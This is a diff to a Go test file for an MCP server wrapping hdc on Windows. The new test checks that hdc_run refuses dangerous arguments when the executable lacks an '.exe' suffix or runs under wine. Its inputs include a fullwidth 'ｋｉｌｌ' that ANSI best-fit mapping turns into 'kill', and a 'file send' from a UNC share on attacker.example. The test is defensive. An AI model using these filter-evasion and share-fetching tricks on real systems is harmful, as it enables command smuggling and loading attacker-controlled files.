@@ -107,3 +107,49 @@ func TestFileToolsReadAsHdcSplits(t *testing.T) {
 		t.Errorf("paths with spaces: %v %q", err, res.TextOf())
 	}
 }
+
+// TestWindowsHdcWithoutExeSuffix: a Windows hdc named by a Windows path
+// without ".exe" (HDC_EXE=C:\sdk\hdc, which CreateProcess and wine
+// complete), or any hdc under a launcher, is hdc.exe all the same: it
+// reads its command line through the ANSI code page, whose best-fit
+// mapping turns fullwidth "ｋｉｌｌ" into kill, and opens network shares.
+// The Windows-only refusals must hold for it too.
+func TestWindowsHdcWithoutExeSuffix(t *testing.T) {
+	for _, cfg := range []winexec.Config{
+		{HDCExe: `C:\sdk\hdc`},
+		{HDCExe: "hdc", Backend: winexec.BackendDirect, Launcher: []string{"wine"}, Policy: winexec.Policy{AllowExe: []string{"hdc"}}},
+	} {
+		r := &countingRunner{}
+		if cfg.Backend == "" {
+			cfg.Runner = r
+		}
+		ex, err := winexec.New(cfg)
+		if err != nil {
+			t.Fatal(err)
+		}
+		srv := mcp.NewServer(&mcp.Implementation{Name: "suffix", Version: "1.0.0"}, nil)
+		hdc.AddTools(srv, ex, nil)
+		a, b := transport.Pipe(nil)
+		srv.Connect(b)
+		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+		c, err := client.Connect(ctx, a, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, args := range [][]string{
+			{"ｋｉｌｌ"},
+			{"-t", "K1", "file", "send", `\\attacker.example\share\x`, "/data/local/tmp/x"},
+		} {
+			res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args, "dryRun": true})
+			if err != nil || !res.IsError {
+				t.Errorf("HDC_EXE %q: hdc_run %q = %v %q; want refused", cfg.HDCExe, args, err, res.TextOf())
+			}
+		}
+		cancel()
+		c.Close()
+		ex.Close()
+		if n := r.count(); n != 0 {
+			t.Errorf("hdc ran %d times: %q", n, r.runs)
+		}
+	}
+}
